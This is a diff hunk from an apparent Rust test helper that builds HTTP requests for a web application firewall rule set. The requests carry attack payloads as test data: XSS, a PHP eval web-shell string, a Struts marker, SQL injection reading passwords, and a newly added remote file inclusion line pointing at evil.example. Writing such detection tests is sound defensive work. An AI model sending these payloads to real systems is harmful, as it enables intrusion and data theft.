@@ -436,6 +436,7 @@ pub(crate) fn crs_requests() -> Vec<Request> {
         post("/", "application/x-www-form-urlencoded", &format!("a={filler}&b=%3Csvg%20onload%3Dalert(1)%3E")),
         post("/", "text/plain", &format!("{filler}<?php eval($_POST['x']); ?>")),
         post("/", "text/plain", &format!("{filler} com.OpenSymphony.XWork2.ActionContext")),
+        post("/", "text/plain", &format!("{filler} MOSCONFIG_Absolute_Path=HTTP://evil.example/x.txt?")),
         post("/", "application/json", &format!(r#"{{"note":"{filler} 1' UNION SELECT password FROM users--"}}"#)),
         post("/", "application/x-www-form-urlencoded", &format!("c={filler}%3Cscript%3Ealert(1)%3C/script%3E")),
         post("/upload", "multipart/form-data; boundary=b", mp),
